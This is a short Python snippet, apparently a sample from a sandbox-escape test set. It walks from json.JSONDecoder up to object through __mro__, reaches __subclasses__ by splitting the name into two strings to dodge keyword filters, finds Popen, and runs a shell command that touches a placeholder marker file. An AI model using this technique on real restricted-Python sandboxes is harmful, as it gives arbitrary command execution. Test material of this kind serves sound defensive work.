# family: object-graph walk upward (__mro__, __bases__, __base__, mro())
# goal: climb from a class to object, then down to a class that runs programs
import json

root = json.JSONDecoder.__mro__[-1]
print(root is int.__bases__[0] is int.__base__ is int.mro()[-1])
for cls in getattr(root, "__subcl" + "asses__")():
    if cls.__name__ == "Popen":
        cls(["sh", "-c", "touch __MARKER_PATH__"])
